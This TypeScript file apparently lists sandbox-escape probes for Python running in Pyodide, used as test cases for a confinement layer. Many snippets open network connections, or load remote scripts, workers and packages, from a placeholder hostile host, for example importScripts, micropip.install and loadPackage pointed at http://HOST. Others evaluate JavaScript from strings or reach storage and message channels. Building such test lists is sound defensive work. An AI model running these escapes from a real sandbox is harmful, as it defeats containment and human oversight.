/** Ways out of Python, the body of an `async def`: it ends where it was kept in. `HOST` stands for a hostile server's. */
export const waysOutOfPython: readonly (readonly [name: string, code: string])[] = [
  // The network.
  ['js.fetch', `import js\nawait js.fetch("http://HOST/fetch")`],
  ['pyfetch', `from pyodide.http import pyfetch\nawait pyfetch("http://HOST/pyfetch")`],
  ['open_url', `from pyodide.http import open_url\nopen_url("http://HOST/open")`],
  ['pyxhr', `from pyodide.http import pyxhr\npyxhr.get("http://HOST/pyxhr")`],
  [
    'js.XMLHttpRequest',
    `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "http://HOST/xhr", False)\nx.send()`,
  ],
  ['js.WebSocket', `import js\njs.WebSocket.new("ws://HOST/socket")`],
  ['js.EventSource', `import js\njs.EventSource.new("http://HOST/events")`],
  ['js.WebTransport', `import js\njs.WebTransport.new("https://HOST/t")`],
  ['sendBeacon', `import js\njs.navigator.sendBeacon("http://HOST/b", "x")`],
  ['urllib', `import urllib.request\nurllib.request.urlopen("http://HOST/urllib", timeout=2)`],
  [
    'http.client',
    `import http.client\nc = http.client.HTTPConnection("HOST")\nc.request("GET", "/client")`,
  ],
  [
    '_socket',
    `import _socket\ns = _socket.socket(2, 1)\ns.connect(("127.0.0.1", int("HOST".split(":")[1])))\ns.send(b"GET / HTTP/1.0\\r\\n\\r\\n")\nimport time\ntime.sleep(0.3)\ns.recv(1)`,
  ],
  ['asyncio', `await asyncio.open_connection("127.0.0.1", int("HOST".split(":")[1]))`],
  [
    'socket reloaded',
    `import socket, importlib, sys\ndel sys.modules["socket"]\nimport socket\ns = socket.create_connection(("127.0.0.1", int("HOST".split(":")[1])), 1)\ns.send(b"GET / HTTP/1.0\\r\\n\\r\\n")\nimport time\ntime.sleep(0.3)\ns.recv(1)`,
  ],
  [
    'loadPackage',
    `import pyodide_js\nawait pyodide_js.loadPackage("http://HOST/x-1.0-py3-none-any.whl")\nimport x`,
  ],
  ['micropip', `import micropip\nawait micropip.install("http://HOST/x-1.0-py3-none-any.whl")`],
  ['subprocess', `import subprocess\nsubprocess.run(["curl", "http://HOST/sub"], check=True)`],
  // Code of JavaScript from text, and other realms.
  ['run_js', `from pyodide.code import run_js\nrun_js("1")`],
  ['js.eval', `import js\njs.eval("1")`],
  ['js.Function', `import js\njs.Function.new("return 1")()`],
  ['a constructor', `import js\njs.Object.constructor("return 1")()`],
  [
    'a timer with text',
    `import js\njs.ran = False\njs.setTimeout("self.ran = true", 0)\nassert js.ran`,
  ],
  [
    'emscripten_run_script',
    `import ctypes\nctypes.CDLL(None).emscripten_run_script(b"self.ran = 1")`,
  ],
  [
    'emscripten_async_wget',
    `import ctypes\nctypes.CDLL(None).emscripten_wget(b"http://HOST/wget", b"/tmp/x")`,
  ],
  ['importScripts', `import js\njs.importScripts("http://HOST/s.js")`],
  ['Worker', `import js\njs.Worker.new("http://HOST/w.js")`],
  ['Worker of a blob', `import js\njs.Worker.new(js.URL.createObjectURL(js.Blob.new(["1"])))`],
  [
    'import by the loader',
    `import pyodide_js\nawait pyodide_js._api.loadScript("http://HOST/m.js")`,
  ],
  // Storage and channels.
  ['indexedDB', `import js\njs.indexedDB.open("x")`],
  ['caches', `import js\nawait js.caches.open("x")`],
  ['storage', `import js\nawait js.navigator.storage.getDirectory()`],
  [
    'IDBFS',
    `import pyodide_js\npyodide_js.FS.mkdir("/idb")\npyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, None, "/idb")\npyodide_js.FS.syncfs(False)\nraise SystemExit`,
  ],
  ['BroadcastChannel', `import js\njs.BroadcastChannel.new("x").postMessage(1)`],
  ['locks', `import js\nawait js.navigator.locks.request("x", print)`],
  ['postMessage', `import js\njs.postMessage("x")`],
  ['self.postMessage', `import js\njs.self.postMessage("x")`],
  [
    'postMessage of the prototype',
    `import js\njs.DedicatedWorkerGlobalScope.prototype.postMessage.call(js.self, "x")`,
  ],
  ['close', `import js\njs.close()`],
  ['location', `import js\nprint(js.location.href)`],
  ['SharedArrayBuffer', `import js\njs.SharedArrayBuffer.new(8)`],
  ['MessageChannel', `import js\njs.MessageChannel.new()`],
];
